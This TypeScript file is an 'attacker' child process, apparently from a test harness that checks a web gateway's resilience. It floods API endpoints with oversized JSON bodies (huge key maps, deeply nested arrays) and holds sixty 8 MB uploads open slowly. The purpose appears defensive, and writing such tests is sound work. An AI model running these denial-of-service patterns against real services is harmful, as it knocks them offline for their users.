import { request, type ClientRequest } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';

/** Order for the attacker process. It runs until its parent disconnects. */
export interface AttackOrder {
  attack: 'large bodies' | 'held bodies';
  url: string;
  /** A loopback address, so that the gateway distinguishes it from the visitors. */
  address: string;
  /** Recipient of the messages. */
  userId: number;
}

/** Number of responses by status; `none` counts connections closed without a response. */
export type AttackReport = Record<string, number>;

const LARGE_REQUESTS_PER_SECOND = 2;
const MAX_LARGE_REQUESTS = 8;
const HELD_REQUESTS = 60;
const HELD_BYTES = 8_000_000;
const REOPEN_PAUSE_MS = 250;

const report: AttackReport = {};
const count = (outcome: string): void => {
  report[outcome] = (report[outcome] ?? 0) + 1;
  process.send?.(report);
};

/** Opens a request and reports its result. The caller writes the body. */
function open(
  { url, address }: AttackOrder,
  { method, path, contentType, length }: { method: string; path: string; contentType: string; length: number },
  onEnd: () => void,
): ClientRequest {
  const { hostname, port, origin } = new URL(url);
  const client = request({
    hostname,
    port,
    method,
    path,
    localAddress: address,
    agent: false,
    headers: {
      origin,
      'x-requested-with': 'XMLHttpRequest',
      'content-type': contentType,
      'content-length': length,
    },
  });
  let answered = false;
  client.on('response', (response) => {
    answered = true;
    count(String(response.statusCode));
    response.resume().once('close', () => client.destroy());
  });
  client.on('error', () => undefined);
  client.once('close', () => {
    if (!answered) count('none');
    onEnd();
  });
  return client;
}

async function sendLargeBodies(order: AttackOrder): Promise<void> {
  const keys = Array.from({ length: 600_000 }, (_, index) => `"k${index}":0`).join(',');
  const arrays = 4_000_000;
  const bodies = [
    { method: 'PATCH', path: '/api/users', text: `{${keys}}` },
    {
      method: 'POST',
      path: '/api/messages',
      text: `{"userId":${order.userId},"content":${'['.repeat(arrays)}${']'.repeat(arrays)}}`,
    },
    { method: 'POST', path: '/api/messages', text: `{"userId":${order.userId},${keys}}` },
  ].map(({ text, ...target }) => ({ ...target, body: Buffer.from(text) }));
  let underWay = 0;
  for (let sent = 0; ;) {
    const next = bodies[sent % bodies.length];
    if (next && underWay < MAX_LARGE_REQUESTS) {
      const { method, path, body } = next;
      sent += 1;
      underWay += 1;
      open(order, { method, path, contentType: 'application/json', length: body.length }, () => (underWay -= 1)).end(
        body,
      );
    }
    await delay(1_000 / LARGE_REQUESTS_PER_SECOND);
  }
}

/** Half of the requests are messages, half are voice previews. */
async function holdBodies(order: AttackOrder): Promise<void> {
  const boundary = 'attack';
  const form = `--${boundary}\r\ncontent-disposition: form-data; name="audio"; filename="a.webm"\r\n\r\n`;
  const targets = [
    { path: '/api/messages', contentType: 'application/json', start: `{"userId":${order.userId},"content":"` },
    { path: '/api/audio/preview', contentType: `multipart/form-data; boundary=${boundary}`, start: form },
  ].map(({ start, ...target }) => {
    const body = Buffer.alloc(HELD_BYTES - 1, 'a');
    body.write(start);
    return { ...target, body };
  });
  let held = 0;
  for (let opened = 0; ;) {
    const next = targets[opened % targets.length];
    if (next && held < HELD_REQUESTS) {
      const { body, ...target } = next;
      opened += 1;
      held += 1;
      open(order, { ...target, method: 'POST', length: HELD_BYTES }, () => (held -= 1)).write(body);
    }
    // The first sixty start at once. Closed ones are reopened more slowly.
    if (opened >= HELD_REQUESTS) await delay(REOPEN_PAUSE_MS);
    else await delay(20);
  }
}

process.once('message', (order: AttackOrder) => {
  void (order.attack === 'large bodies' ? sendLargeBodies(order) : holdBodies(order));
});
process.once('disconnect', () => process.exit());
